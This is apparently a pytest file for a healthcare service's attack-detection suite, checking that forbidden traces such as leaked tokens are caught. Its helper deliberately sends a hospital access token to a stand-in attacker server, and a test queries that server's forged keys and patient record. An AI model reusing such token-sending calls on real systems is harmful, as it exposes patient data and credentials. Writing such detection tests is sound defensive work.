"""Each trace that an attack must not leave is found when the same thing is done rightly, or by a service that fails."""

from __future__ import annotations

import logging
from pathlib import Path

import httpx2
import pytest

from tests.attacks import attack as kinds
from tests.attacks.attack import NEVERS, Never
from tests.attacks.evidence import Evidence, observing
from tests.attacks.pages import link
from tests.attacks.stage import ACCESS, PATIENT, Hospital, fetching, hospital
from tests.service.conftest import plain_environment  # noqa: F401 — a fixture for all tests here
from tests.trust.hospital import DISCOVERY

PAGE = "https://ehr.example.org"


async def everything(stage: Hospital) -> Evidence:
    """What a hospital, its clinician, and a service that tells too much would do."""
    address, key = await link(stage)
    await stage.send(stage.token(), fetching(f"{stage.home.base}/fhir"))
    async with stage.client() as browser:
        stage.evidence.add(await browser.post(address, data={"key": key}))
        stage.evidence.add(await browser.get(address))
    stage.reread(origins=[PAGE])
    stage.evidence.add(await stage.http.get(DISCOVERY, headers={"Origin": PAGE}))
    async with httpx2.AsyncClient(trust_env=False) as teller:
        await teller.get(stage.evil.base, headers={"Authorization": f"Bearer {ACCESS}"})
    logging.getLogger("any").info("it is %s", stage.known("a secret of the attack"))
    return stage.evidence


@pytest.mark.parametrize("never", NEVERS, ids=[one.said for one in NEVERS])
async def test_the_trace_is_found_where_there_is_one(never: Never, tmp_path: Path) -> None:
    async with hospital(tmp_path) as stage:
        with observing(stage.evidence):
            evidence = await everything(stage)
        assert never.traces(evidence)


def test_every_trace_that_a_row_names_is_controlled() -> None:
    defined = {one for one in vars(kinds).values() if isinstance(one, Never)}
    assert defined == set(NEVERS)


async def test_the_call_that_attacks_change_brings_cards(tmp_path: Path) -> None:
    async with hospital(tmp_path) as stage:
        answer = await stage.send(stage.token())
        assert len(answer.json()["cards"]) == 2
        assert sorted(stage.evidence.rows("card_sent", "report", "used_token")) == [
            "card_sent", "card_sent", "report", "report", "used_token"]  # fmt: skip


async def test_the_hospitals_server_is_read_with_the_token_of_the_call(tmp_path: Path) -> None:
    async with hospital(tmp_path) as stage:
        await stage.send(stage.token(), fetching(f"{stage.home.base}/fhir"))
        assert len(stage.read) >= 10
        heads = [head for head in stage.home.heads if b"/fhir/" in head]
        assert all(ACCESS.encode() in head for head in heads)


async def test_the_attackers_server_would_answer(tmp_path: Path) -> None:
    """Keys under the hospital's names, and the record: whoever is led there would go on."""
    async with hospital(tmp_path) as stage, httpx2.AsyncClient(trust_env=False) as visitor:
        keys = (await visitor.get(f"{stage.evil.base}/keys")).json()["keys"]
        assert {key["kid"] for key in keys} == {"curve", "stranger"}
        patient = (await visitor.get(f"{stage.evil.base}/fhir/Patient/selma")).json()
        assert patient["name"][0]["family"] == PATIENT[0]
